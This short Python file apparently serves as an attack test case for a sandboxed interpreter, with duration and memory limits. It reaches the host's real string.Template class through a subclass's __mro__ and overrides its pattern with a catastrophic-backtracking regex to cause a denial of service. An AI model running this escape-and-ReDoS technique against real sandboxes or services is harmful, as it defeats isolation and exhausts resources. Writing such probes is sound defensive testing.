# attack: reach the host's own string.Template through a subclass's __mro__ and subclass it with a catastrophic pattern
# limits: max_duration=0.3 max_memory=100000000
import string


class T(string.Template):
    pass


real = [c for c in T.__mro__ if c.__name__ == "Template" and c is not string.Template]
base = real[0] if real else string.Template


class U(base):
    pattern = r"(?P<escaped>(x+x+)+y)|(?P<named>@)|(?P<braced>!)|(?P<invalid>~)"


print(U("x" * 23).safe_substitute())
